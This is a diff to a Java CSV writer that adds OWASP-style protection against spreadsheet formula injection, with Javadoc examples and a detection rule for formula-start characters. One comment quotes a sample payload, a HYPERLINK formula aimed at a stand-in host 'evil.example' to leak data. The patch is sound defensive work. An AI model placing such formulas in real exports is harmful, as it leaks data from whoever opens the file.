@@ -1,30 +1,77 @@
 package org.duly.cli.text;
 
 import java.util.List;
+import java.util.regex.Pattern;
 
-/** CSV as RFC 4180 gives it: fields quoted only when they must be, records ended by CRLF. */
+/**
+ * CSV as RFC 4180 gives it (fields quoted only when they must be, records ended by CRLF), safe to
+ * open in a spreadsheet.
+ *
+ * <p><b>No formula injection.</b> A spreadsheet treats a cell that begins with {@code =}, {@code +},
+ * {@code -}, {@code @}, a tab or a carriage return as a formula, and a case id such as
+ * {@code =HYPERLINK("http://evil.example/?leak","Open")} would run as one. Following OWASP's rule,
+ * such a cell is written with a single quote before it, inside a quoted field:
+ * {@code =1+1} becomes {@code "'=1+1"}, which a spreadsheet shows as the text {@code '=1+1} and a
+ * CSV parser reads back as {@code '=1+1}. A plain number is not a formula and keeps its sign:
+ * {@code -3} and {@code -0.25} stay {@code -3} and {@code -0.25}, so a column of numbers stays
+ * numbers; {@code -3+1} or {@code -1e5} are not plain numbers and get the quote. Dates
+ * ({@code 2024-03-05}) and spec ids ({@code CP-2}) begin with a digit or a letter and are written
+ * as they are. Every CSV the command line writes goes through this class, so the rule holds in
+ * one place.
+ */
 public final class Csv {
+
+    /** What a spreadsheet takes as the start of a formula (OWASP, "CSV Injection"). */
+    private static final String FORMULA_STARTS = "=+-@\t\r";
+
+    /** A negative decimal number, which a spreadsheet reads as a number and never as a formula. */
+    private static final Pattern NEGATIVE_NUMBER = Pattern.compile("-[0-9]+(\\.[0-9]+)?");
 
     private Csv() {
     }
 
     /**
-     * One field: in double quotes, its quotes doubled, when it holds a comma, a quote or a line break.
+     * One field: in double quotes, its quotes doubled, when it holds a comma, a quote or a line break;
+     * a field a spreadsheet would take for a formula gets a single quote before it, and is quoted.
      *
      * <p>Example:
      * <pre>{@code
      * assertThat(Csv.field("say \"at least\", then")).isEqualTo("\"say \"\"at least\"\", then\"");
      * assertThat(Csv.field("plain")).isEqualTo("plain");
+     * assertThat(Csv.field("=1+1")).isEqualTo("\"'=1+1\"");
+     * assertThat(Csv.field("-3")).isEqualTo("-3");
      * }</pre>
      *
      * @param value the value
      * @return the field
      */
     public static String field(String value) {
+        if (couldBeFormula(value)) {
+            return "\"'" + value.replace("\"", "\"\"") + '"';
+        }
         if (value.chars().noneMatch(c -> c == ',' || c == '"' || c == '\r' || c == '\n')) {
             return value;
         }
         return '"' + value.replace("\"", "\"\"") + '"';
+    }
+
+    /**
+     * Whether a spreadsheet could take a cell holding the value for a formula: it begins with
+     * {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return, and is not a plain
+     * negative number.
+     *
+     * <p>Example:
+     * <pre>{@code
+     * assertThat(Csv.couldBeFormula("@SUM(A1:A9)")).isTrue();
+     * assertThat(Csv.couldBeFormula("-12")).isFalse();
+     * assertThat(Csv.couldBeFormula("CP-2")).isFalse();
+     * }</pre>
+     *
+     * @param value the cell's value
+     * @return true if it must be neutralised
+     */
+    public static boolean couldBeFormula(String value) {
+        return !value.isEmpty() && FORMULA_STARTS.indexOf(value.charAt(0)) >= 0 && !NEGATIVE_NUMBER.matcher(value).matches();
     }
 
     /**
